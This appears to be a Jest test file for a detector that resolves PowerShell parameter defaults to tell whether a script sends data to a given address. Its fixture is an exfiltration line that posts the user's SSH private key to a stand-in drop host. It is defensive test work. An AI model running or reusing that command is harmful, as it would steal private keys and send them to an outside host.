import { expect, it } from '@jest/globals';

import { does } from '../deeds.js';

const SEND = 'Invoke-RestMethod -Uri $Uri -Method Post -InFile $File\n';

it('reads the defaults of the parameters of a script', () => {
  const head =
    'param(\n  [Parameter(Mandatory=$false)][string]$Uri = "https://drop.fennelworks.example/in",\n  [string]$File = "$HOME/.ssh/id_rsa"\n)\n';
  expect(does('powershell', head + SEND, { kind: 'send', target: 'https://drop.fennelworks.example/in' })).toBe(true);
});

it('takes no parameter without a default for an address', () => {
  expect(
    does('powershell', `param([string]$Uri, [string]$File)\n${SEND}`, { kind: 'send', target: 'https://drop.fennelworks.example/in' }),
  ).toBe(false);
});
